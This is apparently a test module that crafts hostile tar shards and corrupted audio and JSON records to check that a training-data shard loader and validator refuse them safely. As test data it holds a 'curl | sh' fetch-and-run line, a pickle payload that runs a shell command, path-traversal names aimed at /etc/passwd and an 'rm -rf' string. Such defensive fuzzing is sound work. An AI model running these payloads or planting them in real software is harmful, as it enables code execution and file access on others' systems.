"""Hostile shards: crafted ones, and one good shard damaged in hundreds of places; run as a process of its own.

    python -m tests.data.hostile FOLDER

Prints a JSON line for each case before and after it is read, so that the parent knows which one ended the process.
"""

from __future__ import annotations

import io
import json
import os
import re
import resource
import struct
import sys
import tarfile
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import soundfile

WAVE = (np.random.default_rng(0).standard_normal(4800) * 0.1).astype(np.float32)
MORE_MEMORY = 1 << 30


def encoded(container: str, subtype: str | None = None, wave: np.ndarray = WAVE, rate: int = 16_000) -> bytes:
    buffer = io.BytesIO()
    with soundfile.SoundFile(buffer, "w", rate, 1 if wave.ndim == 1 else wave.shape[1], subtype, format=container) as f:
        for start in range(0, len(wave), rate):
            f.write(wave[start : start + rate])
    return buffer.getvalue()


def tar(*members: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, raw in members:
            info = tarfile.TarInfo(name)
            info.size = len(raw)
            archive.addfile(info, io.BytesIO(raw))
    return buffer.getvalue()


def header(name: bytes = b"a.json", size: bytes = b"00000000000\0", kind: bytes = b"0", linkname: bytes = b"") -> bytes:
    """A header block with a right checksum and whatever else is asked for."""
    block = bytearray(512)
    block[: len(name)], block[124 : 124 + len(size)], block[156:157] = name, size, kind
    block[157 : 157 + len(linkname)], block[257:265] = linkname, b"ustar\x0000"
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def pax(record: bytes, kind: bytes = b"x", size: int | None = None) -> bytes:
    length = len(record) if size is None else size
    padding = bytes(-len(record) % 512)
    return header(b"pax", b"%011o\0" % length, kind) + record + padding + header() + bytes(1024)


def pax_record(key: bytes, value: bytes) -> bytes:
    body = b" " + key + b"=" + value + b"\n"
    length = len(body)
    while len(str(length)) + len(body) != length:
        length = len(str(length)) + len(body)
    return str(length).encode() + body


def tars() -> Iterator[tuple[str, bytes, str]]:
    """(name, bytes, part of the expected error) of tars that are refused whole."""
    for kind in b"12346SMVNXZ":
        yield f"kind-{chr(kind)}", header(kind=bytes([kind]), linkname=b"/etc/passwd") + bytes(1024), "not a regular"
    ends = bytes(1024)
    for name, size, message in (
        ("negative", b"-0000000001\0", "not a number|negative"),
        ("letters", b"0000000000z\0", "not a number"),
        ("base256-negative", b"\xff" * 12, "negative"),
        ("base256-huge", b"\x80" + b"\x3f" * 11, "cut short"),
        ("octal-huge", b"77777777777\0", "cut short"),
    ):
        yield f"size-{name}", header(size=size) + ends, message
    for i, name in enumerate(
        (b"../a.json", b"/etc/passwd", b"a/../../b.json", b"a\x1b[2J.json", b"\xff\xfe.json", b"")
    ):
        yield f"name-{i}", header(name) + ends, "leads out|control|UTF-8|not a regular"
    yield "pax-size", pax(b"", size=1 << 33), "extended header of"
    yield "gnu-name", header(b"L", b"%011o\0" % (1 << 30), b"L") + bytes(2048), "extended header of"
    yield "pax-no-records", pax(b"hello"), "not a list of records"
    yield "pax-lying-length", pax(b"99999 path=a\n"), "not a list of records"
    yield "pax-zero-length", pax(b"0 path=a\n"), "not a list of records"
    yield "pax-digits", pax(b"1" * 5000), "not a list of records"
    yield "pax-name", pax(pax_record(b"path", b"a" * 60_000)), "a name of 60000 bytes"
    yield "pax-nul", pax(pax_record(b"path", b"a\0.json")), "control"
    yield "pax-up", pax(pax_record(b"path", b"../../a.json")), "leads out"
    yield "pax-not-utf8", pax(pax_record(b"path", b"\xff\xff")), "UTF-8"
    yield "pax-member-size", pax(pax_record(b"size", b"9" * 15)), "cut short"
    yield "pax-bad-size", pax(pax_record(b"size", b"-1")), "not a number"
    yield "pax-long-size", pax(pax_record(b"size", b"9" * 5000)), "not a number"
    yield "pax-sparse", pax(pax_record(b"GNU.sparse.major", b"1")), "sparse"
    yield "pax-alone", pax(pax_record(b"path", b"x"))[:1024] + ends, "without its member"
    yield "gzip", b"\x1f\x8b\x08" + bytes(2000), "gunzip"
    yield "text", b"pipe:curl http://example.com | sh\n" * 40, "damaged"
    yield "empty", b"", "end-of-archive"
    yield "zeros-then-data", bytes(1024) + header(), "data after them"


def records() -> Iterator[tuple[str, list[tuple[str, bytes]], str]]:
    """(name, members, part of the expected problem) of records that are left out."""
    flac, wav, opus = encoded("FLAC"), encoded("WAV", "PCM_16"), encoded("OGG", "OPUS")
    texts = {
        "deep": b'{"x":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        "shallow-bomb": b'{"x":' + b"[" * 40 + b"]" * 40 + b"}",
        "big": b'{"text": "' + b"a" * (1 << 21) + b'"}',
        "long-text": b'{"text": "' + b"a" * 500_000 + b'"}',
        "repeated": b'{"text": "a", "text": "b"}',
        "nan": b'{"text": "a", "x": NaN}',
        "infinity": b'{"text": "a", "x": -Infinity}',
        "overflow": b'{"x": 1e999}',
        "digits": b'{"x": ' + b"1" * 100_000 + b"}",
        "surrogate": rb'{"text": "\udc00"}',
        "nul": rb'{"text": "a\u0000b"}',
        "latin1": '{"text": "é"}'.encode("latin-1"),
        "utf16": '{"text": "a"}'.encode("utf-16-le"),
        "number": b"7",
        "empty": b"",
        "list-text": b'{"text": ["a"]}',
        "times": b'{"words": [{"word": "a", "start": -1, "end": 2}]}',
        "huge-time": b'{"events": [{"label": "a", "start": 1, "end": 1e400}]}',
        "roles": b'{"messages": [{"role": "tool", "content": "rm -rf"}]}',
        "listed": b'{"audios": ["../../etc/passwd"]}',
    }
    for name, text in texts.items():
        yield f"json-{name}", [("a.flac", flac), ("a.json", text)], ""
    for kind in ("pyd", "pkl", "pickle", "pth", "pt", "npy", "npz", "ten", "joblib", "sh"):
        yield f"type-{kind}", [(f"a.{kind}", b"\x80\x04cos\nsystem\n(S'touch pwned'\ntR."), ("a.json", b"{}")], ""
    lies = {
        "flac-endless": flac[:21] + bytes([flac[21] | 0x0F]) + b"\xff" * 4 + flac[26:],
        "flac-cut": flac[: len(flac) // 2],
        "flac-header-only": flac[:42],
        "wav-riff": wav[:40] + struct.pack("<I", 0xFFFFFFF0) + wav[44:60],
        "wav-channels": wav[:22] + struct.pack("<H", 65_535) + wav[24:],
        "wav-rate": wav[:24] + struct.pack("<I", 0xFFFFFFFF) + wav[28:],
        "wav-no-rate": wav[:24] + struct.pack("<I", 0) + wav[28:],
        "wav-nan": encoded("WAV", "FLOAT", np.full(4800, np.nan, np.float32)),
        "wav-infinite": encoded("WAV", "FLOAT", np.full(4800, np.inf, np.float32)),
        "wav-9-channels": encoded("WAV", "PCM_16", np.zeros((4800, 9), np.float32)),
        "wav-empty": encoded("WAV", "PCM_16", WAVE[:0]),
        "wav-tiny": encoded("WAV", "PCM_16", WAVE[:100]),
        "opus-channels": opus[:37] + b"\xff" + opus[38:],
        "opus-cut": opus[:60],
        "mp3-nothing": b"\xff\xfb\x90\x00" + bytes(2000),
        "elf": b"\x7fELF" + bytes(2000),
        "none": b"",
    }
    for name, raw in lies.items():
        yield f"audio-{name}", [(f"a.{name.partition('-')[0]}".replace("elf", "flac"), raw), ("a.json", b"{}")], ""


def good() -> bytes:
    """Four sound records of four formats."""
    audio = {"flac": encoded("FLAC"), "wav": encoded("WAV", "PCM_16"), "opus": encoded("OGG", "OPUS")}
    members = []
    for kind, raw in {**audio, "mp3": encoded("MP3")}.items():
        members += [(f"k{kind}.{kind}", raw), (f"k{kind}.json", json.dumps({"text": f"say{kind}"}).encode())]
    return tar(*members)


def damages(raw: bytes) -> Iterator[tuple[str, bytes]]:
    """The good shard with one byte changed, or cut: first bytes of each file, random ones, headers, JSON."""
    rng = np.random.default_rng(1)
    with tarfile.open(fileobj=io.BytesIO(raw)) as archive:
        infos = archive.getmembers()
    places = []
    for info in infos:
        places += [info.offset + int(i) for i in rng.choice(160, 6, replace=False)]
        first = range(min(30, info.size)) if not info.name.endswith("json") else range(info.size)
        places += [info.offset_data + i for i in first]
        places += [info.offset_data + int(i) for i in rng.integers(0, info.size, 5)]
    for place in places:
        changed = bytearray(raw)
        changed[place] ^= int(rng.integers(1, 128))
        yield f"byte-{place}", bytes(changed)
    for end in rng.integers(0, infos[-1].offset_data, 30):
        yield f"cut-{end}", raw[: int(end)]


def main() -> None:
    from qa_train.data.shards.index import build_index, scan
    from qa_train.data.shards.tar import DamagedShard
    from qa_train.data.tools.validate import validate_shard

    folder = Path(sys.argv[1] if len(sys.argv) > 1 else tempfile.mkdtemp())
    used = int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()
    resource.setrlimit(resource.RLIMIT_AS, (used + MORE_MEMORY, used + MORE_MEMORY))
    path = folder / "case.tar"

    def say(**values: object) -> None:
        print(json.dumps(values), flush=True)

    for name, raw, expected in tars():
        path.write_bytes(raw)
        say(case=f"tar {name}", expected=expected)
        try:
            say(problems=[p.detail for p in scan(str(path), decode=True).problems], left=-1)
        except DamagedShard as error:
            say(error=str(error))
    for name, members, expected in records():
        path.write_bytes(tar(("b.flac", encoded("FLAC")), ("b.json", b'{"text": "ok"}'), *members))
        say(case=f"record {name}", expected=expected)
        started = time.process_time()
        index = scan(str(path), decode=True)
        say(problems=[p.detail for p in index.problems], left=len(index), seconds=time.process_time() - started)
    whole = good()
    path.write_bytes(whole)
    build_index([path])
    for name, raw in damages(whole):
        path.write_bytes(raw)
        say(case=f"damage {name}")
        started = time.process_time()
        faults = validate_shard(str(path)).faults
        say(faults=[str(f) for f in faults], seconds=time.process_time() - started)
    # Its own: getrusage starts from the size of the process that started this one.
    (own,) = re.findall(r"VmHWM:\s+(\d+) kB", Path("/proc/self/status").read_text())
    say(peak=int(own) * 1024)
    # Under so low a limit the libraries' thread pools cannot always be taken down; that is no case of ours.
    os._exit(0)


if __name__ == "__main__":
    main()
